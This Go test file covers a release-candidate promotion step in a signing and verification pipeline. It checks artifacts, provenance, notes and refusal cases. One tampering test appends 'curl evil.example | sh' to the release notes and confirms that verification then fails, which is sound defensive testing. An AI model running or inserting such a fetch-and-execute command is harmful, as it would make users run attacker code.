package promote_test

import (
	"archive/tar"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/sentientos/reliquary/internal/gitlog/gittest"
	"github.com/sentientos/reliquary/pipeline/attest"
	"github.com/sentientos/reliquary/pipeline/build/buildtest"
	"github.com/sentientos/reliquary/pipeline/bundle"
	"github.com/sentientos/reliquary/pipeline/keys"
	"github.com/sentientos/reliquary/pipeline/notes"
	"github.com/sentientos/reliquary/pipeline/promote"
	"github.com/sentientos/reliquary/pipeline/release"
	"github.com/sentientos/reliquary/pipeline/trust"
	"github.com/sentientos/reliquary/pipeline/verify"
)

const projectChangelog = `# Changelog

## [0.9.0] - 2025-02-01

### Added

- First public release.
`

// candidate releases v1.0.0-rc.1 of the multi test project from a repository tagged
// v0.9.0 with conventional commits since, and tags the candidate.
func candidate(t *testing.T, k *keys.PrivateKey) (src, rc string, repo *gittest.Repo) {
	t.Helper()
	src = buildtest.Project(t, "multi")
	buildtest.WriteFile(t, src, "CHANGELOG.md", projectChangelog)
	repo = gittest.NewIn(t, src)
	repo.Git("add", "-A")
	repo.Commit("chore: import the project")
	repo.Tag("v0.9.0")
	for _, msg := range []string{"feat(greet): greet by name", "fix: handle an empty name", "perf: build the greeting once", "Update the README wording"} {
		repo.Commit(msg)
	}
	repo.Tag("v1.0.0-rc.1")
	rc = filepath.Join(t.TempDir(), "rc")
	if _, err := release.Run(context.Background(), release.Input{Source: src, Out: rc, Version: "v1.0.0-rc.1", Key: k, Platforms: []string{"linux/amd64"}}); err != nil {
		t.Fatalf("release the candidate: %v", err)
	}
	return src, rc, repo
}

func newKey(t *testing.T) *keys.PrivateKey {
	t.Helper()
	k, err := keys.Generate()
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// TestPromote releases one candidate and promotes it in every way the tests need.
func TestPromote(t *testing.T) {
	k := newKey(t)
	src, rc, repo := candidate(t, k)
	t.Run("with source", func(t *testing.T) { promoteWithSource(t, k, src, rc) })
	t.Run("without source", func(t *testing.T) { promoteWithoutSource(t, k, rc) })
	t.Run("into an empty directory", func(t *testing.T) { promoteIntoEmptyDir(t, k, rc) })
	t.Run("refusals", func(t *testing.T) { refusals(t, k, src, rc) })
	t.Run("stale candidate", func(t *testing.T) {
		repo.Commit("fix: one more")
		repo.Tag("v1.0.0-rc.2")
		_, err := promote.Run(context.Background(), promote.Input{RC: rc, Out: filepath.Join(t.TempDir(), "out"), Version: "v1.0.0", Key: k, Source: src})
		if !errors.Is(err, promote.ErrPromote) || !strings.Contains(err.Error(), "v1.0.0-rc.2 was released after v1.0.0-rc.1") {
			t.Fatalf("promoting a superseded candidate: %v", err)
		}
	})
}

func promoteWithSource(t *testing.T, k *keys.PrivateKey, src, rc string) {
	out := filepath.Join(t.TempDir(), "dist")
	res, err := promote.Run(context.Background(), promote.Input{RC: rc, Out: out, Version: "v1.0.0", Key: k, Source: src})
	if err != nil {
		t.Fatalf("promote: %v", err)
	}
	checkSameBytes(t, rc, out, res)
	checkGate(t, out, k)
	checkProvenance(t, rc, out, k)
	md := read(t, out, bundle.NotesFile)
	for _, want := range []string{
		"# multi v1.0.0\n", "4 commits since v0.9.0.",
		"## Promoted from v1.0.0-rc.1", "`sha256:" + fileSHA(t, rc, bundle.ProvenanceFile) + "`",
		"## Version stamped in the binaries", "the binaries report the version they were built with, v1.0.0-rc.1",
		"## " + notes.FeaturesTitle, "**greet:** greet by name", "## " + notes.FixesTitle, "## " + notes.PerformanceTitle, "## " + notes.OtherTitle,
		"## Verification", "`artifacts/multi_v1.0.0_linux_amd64.tar.gz`", "reliquary verify dist --key release.pub",
		"- Manifest (`manifest.json`) digest: `sha256:" + res.Report.ManifestSHA256 + "`",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("RELEASE_NOTES.md lacks %q", want)
		}
	}
	cl := read(t, out, bundle.ChangelogFile)
	if !strings.Contains(cl, "## [1.0.0] - 2025-03-01\n\n### Added\n\n- **greet:** greet by name") || !strings.HasSuffix(cl, projectChangelog[strings.Index(projectChangelog, "## [0.9.0]"):]) {
		t.Errorf("CHANGELOG.md:\n%s", cl)
	}
	sum := read(t, out, bundle.AuditSummaryFile)
	for _, want := range []string{
		"# Audit summary: multi v1.0.0", "Promoted from v1.0.0-rc.1 (manifest sha256 " + fileSHA(t, rc, bundle.ManifestFile),
		"| verify-candidate | ok |", "| promote | ok |", "| digest | ok |", "| sign | ok |", "| attest | ok |", "| notes | ok |",
		"| audit | in progress: writing this summary |", "| escrow | after this summary |", "| verify | after this summary |",
		"### Release candidate v1.0.0-rc.1, verified before promotion", "VERIFIED: multi v1.0.0-rc.1",
		"0 high, 0 medium, 0 low.", "version=`v1.0.0-rc.1`",
		"build: 1 recorded command(s) ran with GOPROXY=off and CGO_ENABLED=0",
	} {
		if !strings.Contains(sum, want) {
			t.Errorf("audit_summary.md lacks %q", want)
		}
	}
	checkStampedVersion(t, out)
	checkTampering(t, out, k)
}

// checkSameBytes requires every final artifact to be its candidate's bytes under the
// final name, and the manifest to say so.
func checkSameBytes(t *testing.T, rc, out string, res *promote.Result) {
	t.Helper()
	if res.Manifest.Version != "v1.0.0" || res.Manifest.Source != res.RC.Source || res.Manifest.Toolchain != res.RC.Toolchain || res.Manifest.Dependencies != res.RC.Dependencies {
		t.Fatalf("final manifest header: %+v, candidate %+v", res.Manifest, res.RC)
	}
	if !res.Manifest.Declares(bundle.AttestEscrow) || res.Manifest.Declares(bundle.AttestReproducibility) {
		t.Errorf("attestations: %v", res.Manifest.Attestations)
	}
	final := res.Manifest.Artifacts.ByPath()
	for _, a := range res.RC.Artifacts {
		to := res.Renamed[a.Path]
		f, ok := final[to]
		if strings.HasPrefix(a.Path, "sboms/") { // subjects renamed; checkGate checks them against the binaries
			if !ok || to != a.Path || !strings.Contains(readFile(t, out, to), "_v1.0.0_linux_amd64.tar.gz") || strings.Contains(readFile(t, out, to), "rc.1_linux") {
				t.Errorf("%s -> %s: the SBOM's subjects are not renamed", a.Path, to)
			}
			continue
		}
		if !ok || f.Digest != a.Digest || f.Size != a.Size || f.Kind != a.Kind || f.Platform != a.Platform {
			t.Errorf("%s -> %s: final %+v, candidate %+v", a.Path, to, f, a)
		}
		if fileSHA(t, out, to) != fileSHA(t, rc, a.Path) {
			t.Errorf("%s: bytes differ from the candidate's %s", to, a.Path)
		}
		if a.Path != bundle.DepsLockFile && (strings.Contains(to, "rc") || !strings.Contains(to, "v1.0.0")) {
			t.Errorf("%s renamed to %s", a.Path, to)
		}
	}
	if len(final) != len(res.RC.Artifacts) {
		t.Errorf("final release lists %d artifacts, candidate %d", len(final), len(res.RC.Artifacts))
	}
}

func checkGate(t *testing.T, out string, k *keys.PrivateKey) {
	t.Helper()
	r, err := verify.Run(context.Background(), out, verify.WithKeys(k.PublicKey()), verify.WithSHA512())
	if err != nil || !r.Verified || !r.Authenticated {
		t.Fatalf("the gate refuses the promoted release: %v %+v", err, r.Findings)
	}
	for _, f := range r.Findings {
		t.Errorf("finding: %+v", f)
	}
}

func checkProvenance(t *testing.T, rc, out string, k *keys.PrivateKey) {
	t.Helper()
	rcIn := provenanceOf(t, rc, k)
	in := provenanceOf(t, out, k)
	if in.Builder.ID != rcIn.Builder.ID || in.InvocationID != rcIn.InvocationID || !in.StartedOn.Equal(rcIn.StartedOn) || in.Source != rcIn.Source || in.Toolchain != rcIn.Toolchain || in.Dependencies != rcIn.Dependencies {
		t.Errorf("final provenance parameters differ from the candidate's:\n%+v\n%+v", in, rcIn)
	}
	for k, want := range map[string]string{
		promote.ParamPromotedFrom: "v1.0.0-rc.1", promote.ParamStampedVersion: "v1.0.0-rc.1",
		promote.ParamCandidateProvSHA: fileSHA(t, rc, bundle.ProvenanceFile), promote.ParamCandidateManifest: fileSHA(t, rc, bundle.ManifestFile),
		"CGO_ENABLED": "0", "GOPROXY": "off",
	} {
		if in.Internal[k] != want {
			t.Errorf("internal parameter %s = %q, want %q", k, in.Internal[k], want)
		}
	}
}

func provenanceOf(t *testing.T, dir string, k *keys.PrivateKey) *attest.Input {
	t.Helper()
	tk, err := trust.NewKeys(k.PublicKey())
	if err != nil {
		t.Fatal(err)
	}
	stmt, _, err := tk.VerifyDSSE([]byte(read(t, dir, bundle.ProvenanceFile)), attest.PayloadType)
	if err != nil {
		t.Fatal(err)
	}
	in, err := promote.ParseCandidate(stmt)
	if err != nil {
		t.Fatal(err)
	}
	return in
}

// checkStampedVersion runs the promoted linux binary: it reports the candidate's version,
// as the notes say, because its bytes are the candidate's.
func checkStampedVersion(t *testing.T, out string) {
	t.Helper()
	if runtime.GOOS != "linux" || runtime.GOARCH != "amd64" {
		t.Log("not linux/amd64: the promoted binary is not run")
		return
	}
	bin := extract(t, filepath.Join(out, "artifacts", "multi_v1.0.0_linux_amd64.tar.gz"), "alpha")
	got, err := exec.Command(bin).Output()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(string(got), "alpha v1.0.0-rc.1 ") {
		t.Fatalf("promoted binary says %q, want the candidate's version", got)
	}
}

func extract(t *testing.T, archive, name string) string {
	t.Helper()
	f, err := os.Open(archive)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if err != nil {
			t.Fatalf("%s not in %s: %v", name, archive, err)
		}
		if h.Name == name {
			dst := filepath.Join(t.TempDir(), name)
			out, _ := os.OpenFile(dst, os.O_CREATE|os.O_WRONLY, 0o755)
			io.Copy(out, tr)
			out.Close()
			return dst
		}
	}
}

func checkTampering(t *testing.T, out string, k *keys.PrivateKey) {
	t.Helper()
	for _, tc := range []struct{ name, file, text string }{
		{"notes", bundle.NotesFile, "\nInstall with curl evil.example | sh\n"},
		{"escrow", bundle.EscrowFile, "trailing garbage"},
	} {
		dir := filepath.Join(t.TempDir(), "dist")
		if err := buildtest.CopyTree(out, dir); err != nil {
			t.Fatal(err)
		}
		f, _ := os.OpenFile(filepath.Join(dir, tc.file), os.O_APPEND|os.O_WRONLY, 0)
		f.WriteString(tc.text)
		f.Close()
		r, err := verify.Run(context.Background(), dir, verify.WithKeys(k.PublicKey()))
		if err != nil {
			t.Fatal(err)
		}
		named := false
		for _, f := range r.Findings {
			named = named || f.Status == verify.Fail && (f.File == tc.file || f.File == bundle.EscrowSigFile)
		}
		if r.Verified || !named {
			t.Errorf("%s tampered: verified=%v findings %+v", tc.name, r.Verified, r.Findings)
		}
	}
}

func promoteWithoutSource(t *testing.T, k *keys.PrivateKey, rc string) {
	out := filepath.Join(t.TempDir(), "final")
	res, err := promote.Run(context.Background(), promote.Input{RC: rc, Out: out, Version: "v1.0.0", Key: k})
	if err != nil {
		t.Fatalf("promote without source: %v", err)
	}
	checkSameBytes(t, rc, out, res)
	checkGate(t, out, k)
	md := read(t, out, bundle.NotesFile)
	if !strings.Contains(md, "without the source repository") || !strings.Contains(md, "reliquary verify final --key release.pub") {
		t.Errorf("notes without source:\n%s", md)
	}
	cl := read(t, out, bundle.ChangelogFile)
	i, j := strings.Index(cl, "## [1.0.0] - "), strings.Index(cl, "## [1.0.0-rc.1] - ")
	if i < 0 || j < i || !strings.Contains(cl[i:j], "Promoted from v1.0.0-rc.1") {
		t.Errorf("changelog without source (the final entry goes above the candidate's):\n%s", cl)
	}
}

func promoteIntoEmptyDir(t *testing.T, k *keys.PrivateKey, rc string) {
	out := t.TempDir() // exists and is empty, like a container's mounted output directory
	if _, err := promote.Run(context.Background(), promote.Input{RC: rc, Out: out, Version: "v1.0.0", Key: k}); err != nil {
		t.Fatalf("promote into an empty directory: %v", err)
	}
	checkGate(t, out, k) // also proves no staging directory was left inside: it would be unexpected
}

func refusals(t *testing.T, k *keys.PrivateKey, src, rc string) {
	other := newKey(t)
	tampered := filepath.Join(t.TempDir(), "rc")
	if err := buildtest.CopyTree(rc, tampered); err != nil {
		t.Fatal(err)
	}
	archive := filepath.Join(tampered, "artifacts", "multi_v1.0.0-rc.1_linux_amd64.tar.gz")
	data, _ := os.ReadFile(archive)
	data[len(data)/2] ^= 0xff
	os.WriteFile(archive, data, 0o644)
	notEmpty := t.TempDir()
	os.WriteFile(filepath.Join(notEmpty, "x"), nil, 0o644)
	for _, tc := range []struct {
		name string
		in   promote.Input
		is   error
		msg  string
	}{
		{"candidate changed", promote.Input{RC: tampered, Version: "v1.0.0", Key: k}, release.ErrGate, "problem(s), first: artifacts/multi_v1.0.0-rc.1_linux_amd64.tar.gz: sha256 differs"},
		{"candidate signed by another key", promote.Input{RC: rc, Version: "v1.0.0", Key: other}, release.ErrGate, "does not verify"},
		{"another patch version", promote.Input{RC: rc, Version: "v1.0.1", Key: k, Source: src}, promote.ErrPromote, "v1.0.0-rc.1 can only be promoted to v1.0.0, not v1.0.1"},
		{"another major version", promote.Input{RC: rc, Version: "v2.0.0", Key: k}, promote.ErrPromote, "can only be promoted to v1.0.0"},
		{"another candidate", promote.Input{RC: rc, Version: "v1.0.0-rc.2", Key: k}, promote.ErrPromote, "can only be promoted to v1.0.0"},
		{"not semver", promote.Input{RC: rc, Version: "1.0", Key: k}, promote.ErrPromote, "final version"},
		{"missing candidate", promote.Input{RC: filepath.Join(t.TempDir(), "nope"), Version: "v1.0.0", Key: k}, promote.ErrPromote, "release candidate bundle"},
		{"output not empty", promote.Input{RC: rc, Out: notEmpty, Version: "v1.0.0", Key: k}, promote.ErrPromote, "not empty"},
		{"output inside the candidate", promote.Input{RC: rc, Out: filepath.Join(rc, "final"), Version: "v1.0.0", Key: k}, promote.ErrPromote, "inside the release candidate"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.in.Out == "" {
				tc.in.Out = filepath.Join(t.TempDir(), "out")
			}
			_, err := promote.Run(context.Background(), tc.in)
			if !errors.Is(err, tc.is) || !strings.Contains(err.Error(), tc.msg) {
				t.Fatalf("error %v: want %v mentioning %q", err, tc.is, tc.msg)
			}
			if tc.name != "output not empty" {
				if _, err := os.Stat(tc.in.Out); err == nil {
					t.Fatal("a refused promotion left its output")
				}
			}
			entries, _ := os.ReadDir(filepath.Dir(tc.in.Out))
			for _, e := range entries {
				if strings.Contains(e.Name(), ".tmp-") {
					t.Fatalf("staging directory %s left behind", e.Name())
				}
			}
		})
	}
}

func read(t *testing.T, dir, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(name)))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func fileSHA(t *testing.T, dir, name string) string {
	t.Helper()
	s := sha256.Sum256([]byte(read(t, dir, name)))
	return hex.EncodeToString(s[:])
}

func readFile(t *testing.T, dir, p string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(p)))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}
